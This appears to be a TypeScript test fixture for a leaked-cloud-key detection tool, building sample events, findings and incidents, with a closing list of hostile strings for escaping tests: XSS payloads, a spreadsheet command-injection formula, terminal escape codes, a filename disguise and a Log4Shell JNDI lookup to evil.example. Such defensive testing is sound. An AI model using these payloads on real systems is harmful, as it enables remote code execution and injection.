import type { EvidenceEvent, Finding } from '../../../src/core/finding.ts';
import type { Incident } from '../../../src/core/incident.ts';
import type { AlertGroup } from '../../../src/core/sink.ts';

/** 2026-11-23T03:12:00Z: at night, as stolen keys are used. */
export const NIGHT: number = Date.UTC(2026, 10, 23, 3, 12);

/** Key ids are put together here, so that no scanner takes the source for a leak. */
export const KEY: string = `aws:${'AKIA'}${'KEYWATCHSAMPLE01'}`;
export const SESSION: string = `aws:${'ASIA'}${'KEYWATCHSAMPLE02'}`;

export function evidence(change: Partial<EvidenceEvent> = {}): EvidenceEvent {
  return {
    eventId: '11111111-2222-4333-8444-555555555555',
    time: NIGHT,
    provider: 'aws',
    credential: KEY,
    actor: 'arn:aws:iam::111122223333:user/ci-deploy',
    action: 'GetCallerIdentity',
    target: '',
    address: '198.51.100.7',
    tool: 'aws-cli',
    outcome: 'success',
    ...change,
  };
}

export function finding(change: Partial<Finding> = {}): Finding {
  return {
    id: 'fnd-0000000000000001',
    detector: 'leaked-key-in-use',
    severity: 'critical',
    subject: { kind: 'credential', id: KEY },
    account: '111122223333',
    provider: 'aws',
    at: NIGHT,
    reason: 'used from AS64500, never seen before, 14 min after its secret appeared in a public repository',
    evidence: [evidence()],
    historical: false,
    ...change,
  };
}

export function incident(change: Partial<Incident> = {}): Incident {
  return {
    id: 'inc-7f3a9c2e',
    subject: { kind: 'credential', id: KEY },
    title: 'Leaked key of ci-deploy is used from a new network',
    provider: 'aws',
    account: '111122223333',
    status: 'open',
    historical: false,
    severity: 'critical',
    score: 185,
    parts: [
      { detector: 'first-network-for-key', points: 25, times: 1, reason: 'AS64500 was never seen in 212 days' },
      { detector: 'leaked-key-in-use', points: 100, times: 1, reason: 'its secret is public since 02:58' },
      { detector: 'identity-check-then-sweep', points: 60, times: 2, reason: '14 listing calls within 3 min' },
    ],
    credentials: [KEY, SESSION],
    findings: [finding()],
    exposures: [],
    firstEvent: NIGHT,
    lastEvent: NIGHT + 540_000,
    openedAt: NIGHT,
    updatedAt: NIGHT + 540_000,
    owner: '',
    verdict: '',
    notes: [],
    ...change,
  };
}

export function alertOf(incidents: readonly Incident[], change: Partial<AlertGroup> = {}): AlertGroup {
  return { id: 'msg-0123456789abcdef', reason: 'first', incidents, maybeRepeat: false, at: NIGHT + 600_000, ...change };
}

/** Strings as intruders would like them to reach a person: markup, formulas, escape codes, mentions, disguises. */
export const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\u001b[2J\u001b[31mall clear\u001b[0m',
  '\u009b31m',
  '\u202egnp.exe',
  '<!channel> <@U123> <https://evil.example|click>',
  '*bold* _it_ ~no~ `code` ```block```',
  '&lt;b&gt; &amp;',
  'line one\nline two\r\n\u2028three',
  '\u200bzero\u200dwidth\ufeff',
  '${jndi:ldap://evil.example/a}',
  '\ud800 lone surrogate',
  '%s %n %x',
  'a'.repeat(5000),
];
